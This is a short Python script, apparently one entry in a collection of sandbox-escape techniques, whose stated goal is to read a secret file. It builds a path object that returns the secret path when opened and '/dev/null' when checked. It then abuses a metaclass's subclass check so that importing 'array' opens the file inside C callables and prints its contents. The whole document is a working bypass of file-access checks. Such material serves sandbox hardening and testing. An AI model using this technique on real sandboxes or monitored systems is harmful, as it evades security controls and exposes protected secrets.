# technique: an import registers its class with an ABC, which asks the metaclass of our subclass: a C callable inside the import opens a path object that answers differently when it is checked
# goal: read-secret
# source: own analysis: C callables inside an import
import abc
import collections.abc
import functools
import itertools
import sys
FileIO = type(sys.stdin.buffer.raw)
paths = itertools.chain(['@SECRET@'], itertools.repeat('/dev/null'))


class Path(ExceptionGroup):
    def __fspath__(self):
        return next(paths)


kept = []
path = Path('path', [ValueError()])


class Meta(abc.ABCMeta):
    __subclasscheck__ = staticmethod(functools.partial(
        dict.fromkeys, map(kept.append, map(FileIO, [path]))))


class Evil(collections.abc.MutableSequence, metaclass=Meta):
    pass


import array
print(kept[0].read())
